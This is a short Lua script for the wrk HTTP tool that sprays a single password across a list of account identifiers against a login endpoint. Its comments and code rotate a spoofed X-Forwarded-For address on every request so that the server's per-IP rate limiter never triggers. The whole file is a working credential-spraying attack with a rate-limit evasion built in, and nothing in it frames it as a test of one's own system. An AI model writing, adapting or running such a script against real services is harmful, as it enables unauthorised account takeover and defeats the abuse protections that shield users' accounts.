-- POST /v1/auth/login: identifiers from a file in turn, one password, a new X-Forwarded-For per request.
-- -s login.lua URL -- identifiers.txt PASSWORD FIRST_ADDRESS
-- Addresses count up from FIRST_ADDRESS (an integer) as 10.x.y.z, so the per-address limit never
-- trips; give each run against one server its own range (the limiter's window is a minute).
local bodies, headers, counter, first = {}, {}, 0, 0
function init(args)
  for line in io.lines(args[1]) do
    bodies[#bodies + 1] = string.format('{"identifier":"%s","password":"%s"}', line, args[2])
  end
  first = tonumber(args[3])
  headers["Content-Type"] = "application/json"
end
function request()
  local n = first + counter
  counter = counter + 1
  headers["X-Forwarded-For"] = string.format(
    "10.%d.%d.%d", math.floor(n / 65536) % 256, math.floor(n / 256) % 256, n % 256)
  return wrk.format("POST", nil, headers, bodies[counter % #bodies + 1])
end
